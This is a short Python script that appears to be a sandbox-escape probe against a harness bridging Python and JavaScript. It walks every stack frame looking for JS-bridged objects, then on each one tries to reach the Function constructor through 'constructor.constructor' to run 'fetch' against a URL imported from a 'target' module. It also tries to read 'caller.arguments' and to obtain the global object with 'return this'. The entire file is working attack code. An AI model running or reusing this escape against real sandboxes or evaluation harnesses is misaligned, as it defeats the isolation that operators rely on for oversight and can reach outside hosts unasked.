"""Look through the frames of the harness for functions of JavaScript's."""

import sys

from target import URL

frame = sys._getframe()
while frame is not None:
    for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
        if not type(value).__name__.startswith("Js"):
            continue
        for attempt in (
            lambda v: v.constructor.constructor(f"return fetch('{URL}')")(),
            lambda v: v.caller.arguments,
            lambda v: v.constructor.prototype.constructor("return this")(),
        ):
            try:
                print("GOT", attempt(value))
            except BaseException:
                continue
    frame = frame.f_back
